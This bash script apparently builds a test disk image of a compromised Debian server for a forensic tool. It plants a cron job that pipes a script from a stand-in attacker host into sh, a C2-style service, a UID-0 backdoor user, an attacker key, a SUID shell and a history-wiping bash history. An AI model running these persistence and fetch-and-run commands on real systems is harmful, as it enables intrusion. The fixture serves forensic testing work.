#!/usr/bin/env bash
# Builds testdata/sample/sample.qcow2: a small compromised Debian-like VM disk.
#
#   GPT: p1 EFI system (FAT32, 34 MiB)  p2 root (ext4, 48 MiB)  p3 /var (XFS, 300 MiB)
#
# Planted intrusion (all times UTC on 2026-09-12; the guest's zone is
# Europe/Berlin, so its text logs say 04:xx local time):
#   02:03:11–02:14:14  40 failed SSH passwords for root from 203.0.113.66 (auth.log, btmp)
#   02:15:30           accepted password for root from 203.0.113.66 (auth.log, wtmp)
#   02:16:05           useradd of sysadm with UID 0 (auth.log, /etc/passwd, /etc/shadow)
#   02:17:40           attacker key appended to /root/.ssh/authorized_keys
#   02:18:20           dropped binary /tmp/.X11-unix/.s/kworkerd
#   02:18:45           SUID shell /tmp/.X11-unix/.s/.bash (mode 4755)
#   02:19:10           /etc/cron.d/syscheck fetching and running a script
#   02:19:55           /etc/systemd/system/dbus-helper.service, enabled
#   02:16:00–02:20:30  root's bash history with HISTTIMEFORMAT stamps
#   02:21:30           logout
# The answer key (answer-key.json, written by hand beside this script) lists
# each item with its time; the examine test checks findings and timeline
# against it.
#
# Needs: sgdisk, mkfs.vfat, mcopy, mkfs.ext4, debugfs, mkfs.xfs, utmpdump,
# faketime, qemu-img. Run as any user; nothing is mounted.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here/sample.qcow2}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export TZ=UTC LC_ALL=C
acq='2026-09-12 02:30:00'          # when the VM was quarantined: every untouched file's time
acq_epoch=$(date -ud "$acq" +%s)
install='2026-08-01 10:00:00'      # when the VM was installed: the root filesystem's untouched files

root=$work/root var=$work/var efi=$work/efi
mkdir -p "$root"/{etc/ssh,etc/cron.d,etc/systemd/system/multi-user.target.wants,root/.ssh,home/alice/.ssh,tmp/.X11-unix/.s,usr/bin,usr/sbin,bin,boot,var,proc,sys,dev}
mkdir -p "$var"/{log,tmp,lib/dpkg/info,spool/cron/crontabs} "$efi"/EFI/BOOT "$efi"/EFI/debian

# --- root filesystem -------------------------------------------------------
cat > "$root/etc/os-release" <<'X'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
ID=debian
X
echo web01 > "$root/etc/hostname"
echo 12.7 > "$root/etc/debian_version"
echo Europe/Berlin > "$root/etc/timezone"
cp /usr/share/zoneinfo/Europe/Berlin "$root/etc/localtime"
echo 4e7cbddbe9494fb9876af4e3e85c9eb4 > "$root/etc/machine-id"
cat > "$root/etc/fstab" <<'X'
# /etc/fstab: static file system information.
UUID=5a1e0000-0000-4000-8000-00000000e004 /         ext4 errors=remount-ro 0 1
UUID=5a1e0000-0000-4000-8000-0000000000f5 /var      xfs  defaults          0 2
UUID=5A1E-0EF1                            /boot/efi vfat umask=0077        0 1
tmpfs                                     /run/shm  tmpfs defaults         0 0
X
cat > "$root/etc/passwd" <<'X'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
alice:x:1000:1000:Alice Admin,,,:/home/alice:/bin/bash
sysadm:x:0:0::/home/sysadm:/bin/bash
X
cat > "$root/etc/shadow" <<'X'
root:$y$j9T$Vt0o0ZzK1xXbKq3vZ8uXr/$1T1k3Z9Q9wzq9H3sTqgH6e1o2Jb5yQy5m8Y6pWnq0x4:20300:0:99999:7:::
daemon:*:20300:0:99999:7:::
bin:*:20300:0:99999:7:::
sys:*:20300:0:99999:7:::
www-data:*:20300:0:99999:7:::
sshd:*:20300:0:99999:7:::
alice:$y$j9T$Zq8Hh2Y2Wb6Zf6m0s1Cw2/$Yp1x3C8y0Xo2q4r6t8v0w2y4A6C8E0G2I4K6M8O0Q2S:20300:0:99999:7:::
sysadm:$6$saltsalt$5t7Jm7UunfO1xw9vJ7m2o3pC7QH0sZgJ6yJ9h5q5J2mTt7S3o3P0eNwzv1bI1F3y2f6p9w0e1r2t3y4u5i6o7p:20708:0:99999:7:::
X
cat > "$root/etc/group" <<'X'
root:x:0:
sudo:x:27:alice
alice:x:1000:
X
printf 'root ALL=(ALL:ALL) ALL\n%%sudo ALL=(ALL:ALL) ALL\n' > "$root/etc/sudoers"
cat > "$root/home/alice/.ssh/authorized_keys" <<'X'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHm7Qn4PzH5vJ2QY3d3m2zq7o6QyB8x5d1YbT8E3k4Lr alice@laptop
X
cat > "$root/root/.ssh/authorized_keys" <<'X'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHm7Qn4PzH5vJ2QY3d3m2zq7o6QyB8x5d1YbT8E3k4Lr alice@laptop
ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vYx0mYfJ0tq3y8Y7f9C0b6u2kQm3vX1pN8sR4wL5yZ2aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5aB6cD7eF8gH9iJ0kL1mN2oP3qR4sT5uV6wX7yZ8aB9cD0eF1gH2iJ3kL4mN5oP6qR7sT8uV9wX0yZ1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uQ== backup@203.0.113.66
X
cat > "$root/etc/cron.d/syscheck" <<'X'
# system check
*/5 * * * * root curl -fsSL http://203.0.113.66/s.sh | sh >/dev/null 2>&1
X
cat > "$root/etc/systemd/system/dbus-helper.service" <<'X'
[Unit]
Description=D-Bus helper

[Service]
ExecStart=/tmp/.X11-unix/.s/kworkerd -c 203.0.113.66:443
Restart=always

[Install]
WantedBy=multi-user.target
X
ln -s /etc/systemd/system/dbus-helper.service "$root/etc/systemd/system/multi-user.target.wants/dbus-helper.service"
# A small real ELF stands in for the attacker's tools.
cp /bin/true "$root/tmp/.X11-unix/.s/kworkerd"
cp /bin/true "$root/tmp/.X11-unix/.s/.bash"
cp /bin/true "$root/bin/bash"; cp /bin/true "$root/usr/bin/id"
chmod 755 "$root/tmp/.X11-unix/.s/kworkerd" "$root/bin/bash" "$root/usr/bin/id"
chmod 4755 "$root/tmp/.X11-unix/.s/.bash"
chmod 1777 "$root/tmp" "$root/tmp/.X11-unix"
chmod 700 "$root/root" "$root/root/.ssh"
epoch() { date -ud "2026-09-12 $1" +%s; }
{
  t=$(epoch 02:16:00); echo "#$t"; echo "id"
  echo "#$((t+40))"; echo "useradd -o -u 0 -g 0 -M -d /home/sysadm -s /bin/bash sysadm"
  echo "#$((t+100))"; echo "echo 'ssh-rsa AAAAB3Nza... backup@203.0.113.66' >> /root/.ssh/authorized_keys"
  echo "#$((t+135))"; echo "wget -q http://203.0.113.66/kworkerd -O /tmp/.X11-unix/.s/kworkerd"
  echo "#$((t+160))"; echo "cp /bin/bash /tmp/.X11-unix/.s/.bash && chmod 4755 /tmp/.X11-unix/.s/.bash"
  echo "#$((t+190))"; echo "vi /etc/cron.d/syscheck"
  echo "#$((t+235))"; echo "systemctl enable --now dbus-helper"
  echo "#$((t+270))"; echo "history -c; unset HISTFILE"
} > "$root/root/.bash_history"
chmod 600 "$root/root/.bash_history"

# every untouched root file keeps the install time; planted ones their own
find "$root" -exec touch -h -d "$install" {} +
plant() { touch -h -d "2026-09-12 $2 UTC" "$root/$1"; }
plant root/.ssh/authorized_keys 02:17:40
plant tmp/.X11-unix/.s/kworkerd 02:18:20
plant tmp/.X11-unix/.s/.bash 02:18:45
plant etc/cron.d/syscheck 02:19:10
plant etc/systemd/system/dbus-helper.service 02:19:55
plant etc/passwd 02:16:05
plant etc/shadow 02:16:05
plant root/.bash_history 02:20:30

faketime -f "@$acq" env E2FSPROGS_FAKE_TIME="$acq_epoch" \
  mkfs.ext4 -q -F -L root -U 5a1e0000-0000-4000-8000-00000000e004 -E hash_seed=5a1e0000-0000-4000-8000-0000000000aa \
  -d "$root" "$work/root.ext4" 48M
# mkfs.ext4 -d copies mtime and atime but stamps ctime with the real clock:
# give every inode the install time, then the planted files their own.
acq_ts=$(date -ud "$install" +%Y%m%d%H%M%S)
(cd "$root" && find . -mindepth 1 | sed 's|^\.||') | while read -r p; do
  echo "sif \"$p\" ctime $acq_ts"; echo "sif \"$p\" crtime $acq_ts"
done > "$work/ctimes.debugfs"
echo "sif / ctime $acq_ts" >> "$work/ctimes.debugfs"
debugfs -w -f "$work/ctimes.debugfs" "$work/root.ext4" >/dev/null 2>&1
# birth and change times of the planted files: debugfs sets what mkfs could not
setb() { # path HH:MM:SS
  local ts; ts=$(date -ud "2026-09-12 $2" +%Y%m%d%H%M%S)
  debugfs -w -R "sif /$1 crtime $ts" "$work/root.ext4" >/dev/null 2>&1
  debugfs -w -R "sif /$1 ctime $ts" "$work/root.ext4" >/dev/null 2>&1
}
setb root/.ssh/authorized_keys 02:17:40
setb tmp/.X11-unix/.s/kworkerd 02:18:20
setb tmp/.X11-unix/.s/.bash 02:18:45
setb etc/cron.d/syscheck 02:19:10
setb etc/systemd/system/dbus-helper.service 02:19:55
setb etc/passwd 02:16:05
setb etc/shadow 02:16:05

# --- /var (XFS) ------------------------------------------------------------
# auth.log in local time (CEST, UTC+2), as rsyslog's traditional format writes it.
{
  echo "Sep 10 09:12:01 web01 sshd[811]: Accepted publickey for alice from 198.51.100.10 port 40022 ssh2: ED25519 SHA256:q1w2e3r4t5y6u7i8o9p0a1s2d3f4g5h6j7k8l9z0x1c"
  echo "Sep 10 09:12:01 web01 sshd[811]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)"
  echo "Sep 10 09:13:40 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update"
  echo "Sep 10 09:20:11 web01 sshd[811]: pam_unix(sshd:session): session closed for user alice"
  t=$(epoch 02:03:11)
  for i in $(seq 0 39); do
    s=$((t + i*17 + (i%3)))
    printf '%s web01 sshd[%d]: Failed password for root from 203.0.113.66 port %d ssh2\n' \
      "$(TZ=Europe/Berlin date -d "@$s" '+%b %e %H:%M:%S')" $((2000+i)) $((40000+i))
  done
  s=$(epoch 02:15:30)
  printf '%s web01 sshd[2100]: Accepted password for root from 203.0.113.66 port 52144 ssh2\n' "$(TZ=Europe/Berlin date -d "@$s" '+%b %e %H:%M:%S')"
  printf '%s web01 sshd[2100]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n' "$(TZ=Europe/Berlin date -d "@$s" '+%b %e %H:%M:%S')"
  s=$(epoch 02:16:05)
  printf '%s web01 useradd[2140]: new user: name=sysadm, UID=0, GID=0, home=/home/sysadm, shell=/bin/bash, from=/dev/pts/0\n' "$(TZ=Europe/Berlin date -d "@$s" '+%b %e %H:%M:%S')"
  s=$(epoch 02:21:30)
  printf '%s web01 sshd[2100]: pam_unix(sshd:session): session closed for user root\n' "$(TZ=Europe/Berlin date -d "@$s" '+%b %e %H:%M:%S')"
} > "$var/log/auth.log"
printf 'Sep 12 04:00:01 web01 CRON[1990]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)\n' > "$var/log/syslog"
# wtmp / btmp via utmpdump's text form
ut() { # type pid id user line host time
  printf '[%d] [%05d] [%-4s] [%-32s] [%-12s] [%-64s] [%-15s] [%s,000000+00:00]\n' "$1" "$2" "$3" "$4" "$5" "$6" "$6" "$(date -ud "$7" +%Y-%m-%dT%H:%M:%S)"
}
{
  ut 2 0 '~~' reboot '~' 6.1.0-25-amd64 '2026-09-01 06:00:00'
  ut 7 811 ts/0 alice pts/0 198.51.100.10 '2026-09-10 07:12:01'
  ut 8 811 ts/0 '' pts/0 '' '2026-09-10 07:20:11'
  ut 7 2100 ts/0 root pts/0 203.0.113.66 '2026-09-12 02:15:30'
  ut 8 2100 ts/0 '' pts/0 '' '2026-09-12 02:21:30'
} | sed 's/\[\(0\.0\.0\.0\| *\)\] \[/[] [/' > "$work/wtmp.txt"
utmpdump -r < "$work/wtmp.txt" > "$var/log/wtmp" 2>/dev/null
{
  t=$(epoch 02:03:11)
  for i in $(seq 0 39); do
    ut 6 $((2000+i)) '' root ssh:notty 203.0.113.66 "@$((t + i*17 + (i%3)))"
  done
} > "$work/btmp.txt"
utmpdump -r < "$work/btmp.txt" > "$var/log/btmp" 2>/dev/null
chmod 660 "$var/log/btmp"
cat > "$var/lib/dpkg/status" <<'X'
Package: coreutils
Status: install ok installed
Version: 9.1-1

X
printf '2026-08-01 10:00:00 install coreutils:amd64 <none> 9.1-1\n2026-09-12 04:18:00 install netcat-traditional:amd64 <none> 1.10-47\n' > "$var/log/dpkg.log"

proto=$work/var.proto
{
  echo /dev/null; echo 0 0
  echo "d--755 0 0"
  gen() { # dir depth
    local d=$1 ind=$2 name
    for p in "$d"/* "$d"/.[!.]*; do
      [ -e "$p" ] || continue
      name=$(basename "$p")
      if [ -d "$p" ]; then
        echo "$ind$name d--$(stat -c %a "$p") 0 0"; gen "$p" "$ind "; echo "$ind\$"
      else
        echo "$ind$name ---$(stat -c %a "$p") 0 0 $p"
      fi
    done
  }
  gen "$var" " "
  echo '$'
} > "$proto"
truncate -s 300M "$work/var.xfs"
faketime -f "@$acq" mkfs.xfs -q -f -L var -m uuid=5a1e0000-0000-4000-8000-0000000000f5 -p "$proto" "$work/var.xfs"

# --- EFI system partition ----------------------------------------------------
echo 'search.fs_uuid 5a1e0000-0000-4000-8000-00000000e004 root' > "$efi/EFI/debian/grub.cfg"
cp /bin/true "$efi/EFI/BOOT/BOOTX64.EFI"
truncate -s 34M "$work/efi.fat"
mkfs.vfat -F 32 -n EFI -i 5A1E0EF1 "$work/efi.fat" >/dev/null
faketime -f "@$acq" mcopy -s -m -i "$work/efi.fat" "$efi/EFI" ::/

# --- disk --------------------------------------------------------------------
disk=$work/disk.raw
truncate -s 400M "$disk" >/dev/null
sgdisk -o -U 5A1E0000-0000-4000-8000-0000000D15C0 \
  -n1:2048:+34M -t1:ef00 -c1:EFI -u1:5A1E0000-0000-4000-8000-0000000000E1 \
  -n2:0:+48M -t2:8300 -c2:root -u2:5A1E0000-0000-4000-8000-0000000000E2 \
  -n3:0:+300M -t3:8300 -c3:var -u3:5A1E0000-0000-4000-8000-0000000000E3 "$disk" >/dev/null
start() { sgdisk -i "$1" "$disk" | awk '/First sector/ {print $3}'; }
dd if="$work/efi.fat" of="$disk" bs=512 seek="$(start 1)" conv=notrunc,sparse status=none
dd if="$work/root.ext4" of="$disk" bs=512 seek="$(start 2)" conv=notrunc,sparse status=none
dd if="$work/var.xfs" of="$disk" bs=512 seek="$(start 3)" conv=notrunc,sparse status=none
qemu-img convert -q -c -f raw -O qcow2 -o compression_type=zlib "$disk" "$out"
ls -l "$out"
